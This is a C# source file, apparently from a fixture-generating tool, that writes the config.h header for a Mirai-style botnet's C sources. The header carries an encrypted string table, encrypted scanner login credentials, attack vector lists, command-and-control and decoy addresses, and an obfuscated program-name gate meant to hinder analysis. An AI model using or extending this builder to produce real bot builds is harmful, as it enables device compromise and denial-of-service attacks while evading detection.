using System.Globalization;
using System.Text;
using FixtureBuilder.Matrix;

namespace FixtureBuilder.Configurations;

/// <summary>Writes config.h: all that the C sources take from a configuration, strings already encrypted.</summary>
internal static class HeaderWriter
{
    private const byte FoldStart = 0xaf;
    private const int PoolSize = 9;

    public static string Write(BotConfiguration configuration, Gate gate)
    {
        var header = new StringBuilder();
        void Line(string text) => header.Append(text).Append('\n');

        Line($"/* Generated from configurations/{configuration.Name}.yaml. */");
        Line("#ifndef CONFIG_H");
        Line("#define CONFIG_H");
        Line($"#define TABLE_KEY 0x{configuration.Table.Key:x8}u");
        Line($"#define TABLE_SLOTS {configuration.Table.Slots}");
        foreach (TableEntry entry in configuration.Table.Entries.Where(entry => entry.Name is not null))
        {
            Line($"#define TABLE_{entry.Name!.ToUpperInvariant().Replace('-', '_')} {entry.Id}");
        }

        Line("#define TABLE_ENTRIES(ADD) \\");
        foreach (TableEntry entry in configuration.Table.Entries)
        {
            byte[] stored = Cipher.Apply(configuration.Table.Key, entry.Decoded());
            Line($"    ADD({entry.Id}, {Literal(stored)}, {stored.Length}) \\");
        }

        Line("");
        for (int at = 0; at < 4; at++)
        {
            Line($"#define SCANNER_KEY_{at} 0x{(byte)(configuration.Scanner.Key >> (24 - (8 * at))):x2}");
        }

        Line("#define SCANNER_CREDENTIALS(ADD) \\");
        foreach (Credential credential in configuration.Scanner.Credentials)
        {
            Line($"    ADD({Text(credential.User)}, {Text(credential.Password)}, {credential.Weight}) \\");
        }

        Line("");
        Line("#define ATTACK_VECTORS(ADD) \\");
        foreach (AttackVector vector in configuration.Vectors)
        {
            Line($"    ADD({vector.Id}, {vector.Function}) \\");
        }

        Line("");
        if (configuration.Decoy is Endpoint decoy)
        {
            Line($"#define DECOY_ADDRESS {Address(decoy.Address)}");
            Line($"#define DECOY_PORT {decoy.Port}");
        }

        CncHeaderWriter.Write(configuration, Line);
        Line($"#define RESOLVER_ADDRESS {Address(configuration.Program.Resolver)}");
        Line($"#define LOCAL_ADDRESS_PROBE {Address(configuration.Program.LocalAddressProbe)}");
        Line($"#define SINGLE_INSTANCE_PORT {configuration.Program.SingleInstancePort}");
        WriteGate(gate, Line);
        GateHeaderWriter.Write(configuration.Program, Line);
        Line("#endif");
        return header.ToString();

        string Text(string text) => Literal(Cipher.Apply(configuration.Scanner.Key, Encoding.UTF8.GetBytes(text)));
    }

    private static void WriteGate(Gate gate, Action<string> line)
    {
        line("#define GATE_NONE 0");
        line("#define GATE_FUNCTION_TABLE 1");
        line("#define GATE_COMPARE_EXIT 2");
        line("#define GATE_SIGNAL_ONLY 3");
        line("#define GATE_COMPARE_BYTES 4");
        line("#define GATE_COMPARE_WORDS 5");
        line($"#define GATE_KIND GATE_{gate.Kind.ToUpperInvariant().Replace('-', '_')}");
        if (gate.Argv0 is not string name)
        {
            return;
        }

        byte[] bytes = Encoding.ASCII.GetBytes(name);
        byte fold = FoldStart;
        foreach (byte value in bytes)
        {
            fold += value;
        }

        byte[] swapped = [.. bytes];
        for (int at = 0; at + 1 < swapped.Length; at += 2)
        {
            (swapped[at], swapped[at + 1]) = (swapped[at + 1], swapped[at]);
        }

        line($"#define GATE_NAME {Literal(bytes)}");
        line($"#define GATE_NAME_LENGTH {bytes.Length}");
        line($"#define GATE_NAME_LETTERS(SAME) {string.Join(' ', bytes.Select((value, at) => $"SAME({at}, {value})"))}");
        line($"#define GATE_NAME_WORDS(SAME) {string.Join(' ', WordStarts(bytes).Select(at => $"SAME({at}, {bytes[at]}, {bytes[at + 1]}, {bytes[at + 2]}, {bytes[at + 3]})"))}");
        line($"#define GATE_NAME_SWAPPED {{ {string.Join(", ", swapped)} }}");
        line($"#define GATE_FOLD_START 0x{FoldStart:x2}");
        line($"#define GATE_SLOT {fold % PoolSize}");
    }

    /// <summary>Where words of four letters start; the last one may overlap the one before.</summary>
    private static IEnumerable<int> WordStarts(byte[] bytes) =>
        Enumerable.Range(0, (bytes.Length + 3) / 4).Select(word => Math.Min(word * 4, bytes.Length - 4));

    internal static string Literal(byte[] bytes) =>
        $"\"{string.Concat(bytes.Select(value => "\\x" + value.ToString("x2", CultureInfo.InvariantCulture)))}\"";

    internal static string Address(string address) => $"INET_ADDR({address.Replace(".", ", ", StringComparison.Ordinal)})";
}
